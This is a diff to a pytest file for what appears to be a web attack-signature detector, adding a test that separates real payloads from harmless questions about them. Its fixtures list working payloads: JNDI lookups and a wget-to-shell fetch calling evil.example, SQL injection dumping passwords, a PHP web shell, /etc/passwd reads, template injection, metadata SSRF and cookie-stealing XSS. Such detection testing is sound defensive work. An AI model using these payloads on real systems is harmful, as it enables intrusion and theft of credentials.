@@ -3,12 +3,13 @@
 import random
 import string
 import time
+from urllib.parse import quote_plus
 
 import pytest
 import re2
 
 from pipelines.detect.web.match import hits_in, line_pattern, open_pattern, signatures_of
-from pipelines.detect.web.signatures import Place, example_uri, load_families
+from pipelines.detect.web.signatures import STRONG, Place, example_uri, load_families
 from pipelines.detect.web.units import units
 
 # Two to three as measured; 15 and more where the automata count.
@@ -110,6 +111,41 @@ def test_what_a_family_is_not_shown_by(path: str, is_shown: bool) -> None:
     """A family's `unless` clears pages about a file, and never a way out of them."""
     families = {hit.family for hit in hits_in(Place.PATH, path)}
     assert ("sensitive-file-probing" in families) == is_shown
+
+
+@pytest.mark.parametrize(
+    ("text", "is_attack"),
+    [
+        ("${jndi:ldap://evil.example/a}", True),
+        ("${${::-j}ndi:rmi://evil.example/a}", True),
+        ("1' union select password,email from users--", True),
+        ("-1 union all select 1,2,@@version", True),
+        ("<?php system($_GET[1]);?>", True),
+        (";cat /etc/passwd", True),
+        (";wget http://evil.example/x -O-|sh", True),
+        ("{{''.__class__.__mro__[1].__subclasses__()}}", True),
+        ("http://169.254.169.254/latest/meta-data/", True),
+        ("<script>alert(document.cookie)</script>", True),
+        ("${jndi:ldap} works", False),
+        ("union select a,b from users works", False),
+        ("' or '1'='1 works in SQL", False),
+        ("<?php system('ls'); ?> works", False),
+        ("<?php phpinfo(); ?> works", False),
+        ("cat /etc/passwd; works", False),
+        ("wget http://www.example/x works", False),
+        ("{{ item.__class__ }} renders", False),
+        ("{{ config.items() }} renders", False),
+        ("169.254.169.254 works", False),
+        ("<script> tag works", False),
+        ("alert(1) works", False),
+    ],
+)
+@pytest.mark.parametrize("place", [Place.QUERY, Place.REFERRER])
+def test_a_word_of_a_question_hides_no_attack(place: Place, text: str, is_attack: bool) -> None:
+    """Forms that people ask about are hints; what only an attack holds keeps its weight."""
+    page = "" if place is Place.QUERY else "https://www.example/search?"
+    weights = [hit.weight for hit in hits_in(place, f"{page}q={quote_plus(f'how {text}')}")]
+    assert (max(weights, default=0) >= STRONG) == is_attack
 
 
 def _signatures(query: str) -> set[str]:
